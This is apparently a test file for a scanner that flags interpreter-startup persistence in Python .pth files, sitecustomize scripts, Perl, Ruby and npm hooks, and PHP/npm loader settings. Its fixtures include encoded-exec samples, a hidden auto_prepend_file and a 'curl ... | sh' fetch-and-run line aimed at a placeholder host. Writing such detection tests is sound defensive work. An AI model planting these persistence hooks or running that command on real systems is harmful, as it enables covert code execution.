import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { interpreterStartup } from './index.ts';

const START = 'persistence/interpreter-startup';
const LOADER = 'persistence/interpreter-loader';
const SITE = 'usr/local/lib/python3.12/site-packages';

const HONEST = {
  [`${SITE}/distutils-precedence.pth`]:
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
  [`${SITE}/matplotlib-3.1-nspkg.pth`]:
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
  [`${SITE}/pytest-cov.pth`]:
    'import os, sys;exec(\'if "COV_CORE_SOURCE" in os.environ:\\n    try:\\n        from pytest_cov.embed import init\\n        init()\\n    except Exception as exc:\\n        sys.stderr.write("x")\')\n',
  [`${SITE}/a1_coverage.pth`]:
    'import sys; exec("try: import coverage; coverage.process_startup()\\nexcept ImportError: pass")\n',
  [`${SITE}/__editable__.app-1.0.pth`]:
    'import __editable___app_1_0_finder; __editable___app_1_0_finder.install()\n',
  [`${SITE}/_virtualenv.pth`]: 'import _virtualenv\n',
  [`${SITE}/easy-install.pth`]: 'import sys; sys.__plen = len(sys.path)\n./subprocess-1.0.egg\n/srv/base64\n',
};

const cases = [
  { name: 'honest .pth files are nothing', files: HONEST, expected: [] },
  {
    name: 'a .pth that starts a program',
    files: { [`${SITE}/x.pth`]: "import os, subprocess; subprocess.Popen(['/bin/true'])\n" },
    expected: [`block ${START} ${SITE}/x.pth`],
  },
  {
    name: 'a .pth that decodes and runs',
    files: {
      [`${SITE}/a.pth`]: "import base64; exec(base64.b64decode('aW5lcnQ='))\n",
      [`${SITE}/b.pth`]: "import sys; exec(__import__('zlib').decompress(b'inert'))\n",
    },
    expected: [`block ${START} ${SITE}/a.pth`, `block ${START} ${SITE}/b.pth`],
  },
  {
    name: 'a .pth that only connects is for review',
    files: { [`${SITE}/x.pth`]: "import urllib.request; urllib.request.urlopen('http://x.invalid/')\n" },
    expected: [`review ${START} ${SITE}/x.pth`],
  },
  {
    name: 'sitecustomize and usercustomize',
    files: {
      'usr/lib/python3/dist-packages/sitecustomize.py': "import os\nos.system('true')\n",
      'root/.local/lib/python3.11/site-packages/usercustomize.py':
        "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
    },
    expected: [
      `block ${START} root/.local/lib/python3.11/site-packages/usercustomize.py`,
      `block ${START} usr/lib/python3/dist-packages/sitecustomize.py`,
    ],
  },
  {
    name: "Debian's own sitecustomize, and a comment, are nothing",
    files: {
      'usr/lib/python3.11/sitecustomize.py':
        '# subprocess\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n',
    },
    expected: [],
  },
  {
    name: 'Perl, Ruby and npm',
    files: {
      'etc/perl/sitecustomize.pl': 'eval decode_base64("aW5lcnQ=");\n',
      'usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb': "system('true')\n",
      'app/node_modules/.hooks/postinstall': '#!/bin/sh\ncurl -s http://x.invalid/a | sh\n',
    },
    expected: [
      `block ${START} app/node_modules/.hooks/postinstall`,
      `block ${START} etc/perl/sitecustomize.pl`,
      `block ${START} usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb`,
    ],
  },
  {
    name: 'loader settings',
    files: {
      'etc/php/8.2/cli/php.ini':
        ';auto_prepend_file = /x\nauto_prepend_file =\nauto_append_file = /srv/waf.php\n',
      'var/www/html/.user.ini': 'auto_prepend_file = "/tmp/.x.php"\n',
      'root/.npmrc': 'registry=https://registry.npmjs.org/\nnode-options=--require /srv/x.js\n',
      'usr/etc/npmrc': 'script-shell=/opt/x\n',
    },
    expected: [
      `block ${LOADER} var/www/html/.user.ini`,
      `review ${LOADER} etc/php/8.2/cli/php.ini`,
      `review ${LOADER} root/.npmrc`,
      `review ${LOADER} usr/etc/npmrc`,
    ],
  },
  {
    name: 'honest settings are nothing',
    files: {
      'etc/php/8.2/cli/php.ini': 'auto_prepend_file =\nauto_append_file = ""\nauto_prepend_file = none\n',
      'root/.npmrc': 'node-options=--max-old-space-size=4096\nscript-shell=/bin/bash\n',
    },
    expected: [],
  },
  {
    name: 'what a package ships unchanged is for a person to judge, and the same names elsewhere are nothing',
    files: {
      ...packageOf('listed', {
        'usr/lib/python3/dist-packages/x.pth': 'import subprocess; subprocess.run(x)\n',
      }),
      'usr/lib/python3/dist-packages/x.pth': 'import subprocess; subprocess.run(x)\n',
      'srv/models/weights.pth': 'import subprocess; subprocess.run(x)\n',
    },
    expected: ['review persistence/interpreter-startup usr/lib/python3/dist-packages/x.pth'],
  },
];

for (const { name, files, expected } of cases) {
  test(`interpreter-startup: ${name}`, () => {
    const given = { layers: [files], catalogers: [listedPackages] };
    const { findings, problems } = inspectFixture(given, [interpreterStartup]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('interpreter-startup: says line and why', () => {
  const layers = [{ [`${SITE}/x.pth`]: "/srv/app\nimport os; os.system('true')\n" }];
  const [finding] = inspectFixture({ layers }, [interpreterStartup]).findings;
  assert.equal(finding?.location.line, 2);
  assert.equal(finding?.evidence, "starts a program: import os; os.system('true')");
});
